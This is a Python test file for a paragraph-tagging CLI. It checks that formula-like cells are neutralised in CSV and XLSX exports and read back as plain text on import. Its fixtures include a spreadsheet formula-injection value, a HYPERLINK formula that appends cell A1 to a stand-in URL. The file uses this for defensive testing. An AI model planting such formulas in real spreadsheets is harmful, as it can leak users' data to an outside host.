"""No output cell runs code: formula-like paragraphs are neutralised in CSV and XLSX, and the
import reads them back as the text they were."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from tests.conftest import make_labels_dir

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+全年发放助学金。", "-开展防溺水教育。",
            "@招聘特岗教师。", "'=引号开头的段落。"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_paragraphs_are_written_as_text_and_imported_back(cli, trained, tmp_path, fmt):
    doc = tmp_path / "=doc.txt"
    doc.write_text("\n".join(FORMULAS) + "\n", "utf-8")
    out = tmp_path / f"t.{fmt}"
    assert cli("tag", doc, "-o", out, "--models", trained["models"], "--quiet").code == 0
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
        header, rows = rows[0], rows[1:]
        text, source = header.index("text"), header.index("source")
        assert [r[text] for r in rows] == ["'" + f for f in FORMULAS]
        assert rows[0][source] == str(doc)  # starts with /: nothing to neutralise
        rows = [r[:-1] + ["资助"] for r in rows]  # a reviewer fills in corrected_labels
        with open(out, "w", encoding="utf-8-sig", newline="") as handle:
            csv.writer(handle).writerows([header] + rows)
    else:
        with zipfile.ZipFile(out) as book:
            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
            assert all(b"<f>" not in book.read(n) and b"<f " not in book.read(n) for n in sheets)
        from openpyxl import load_workbook

        book = load_workbook(out)
        sheet = book["paragraphs"]
        header = [c.value for c in sheet[1]]
        cells = [row[header.index("段落")] for row in sheet.iter_rows(min_row=2)]
        assert [(c.value, c.data_type) for c in cells] == [("'" + f, "s") for f in FORMULAS]
        for row in sheet.iter_rows(min_row=2):
            row[header.index("更正标签")].value = "资助"
        book.save(out)
    labels = make_labels_dir(tmp_path / "labels")
    result = cli("labels", "import", out, "--labels", labels, "--user", "u")
    assert result.code == 0, result.err
    added = [json.loads(x) for x in (labels / "data" / "imported.jsonl").read_text("utf-8").splitlines()]
    assert [r["text"] for r in added] == FORMULAS
    assert added[0]["doc"] == f"imp:{doc}"


def test_a_reviewed_xlsx_with_a_live_formula_imports_its_text(cli, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["text", "corrected_labels"])
    sheet.append(['=HYPERLINK("http://x/?"&A1,"点击")', "无"])  # as an older zongjie wrote it
    book.save(tmp_path / "old.xlsx")
    labels = make_labels_dir(tmp_path / "labels")
    result = cli("labels", "import", tmp_path / "old.xlsx", "--labels", labels, "--user", "u")
    assert result.code == 0, result.err
    [added] = [json.loads(x) for x in (labels / "data" / "imported.jsonl").read_text("utf-8").splitlines()]
    assert added["text"] == '=HYPERLINK("http://x/?"&A1,"点击")'


def test_a_huge_csv_cell_is_a_clear_error(cli, tmp_path):
    path = tmp_path / "big.csv"
    path.write_text("text,corrected_labels\n好,资助\n" + "大" * 200_000 + ",资助\n", "utf-8")
    result = cli("labels", "import", path, "--labels", make_labels_dir(tmp_path / "labels"))
    assert result.code == 1
    assert result.err == (f"Error: {path}:3: a cell has more than 131,072 characters (a paragraph is "
                          "far shorter): is this the file you meant?\n")
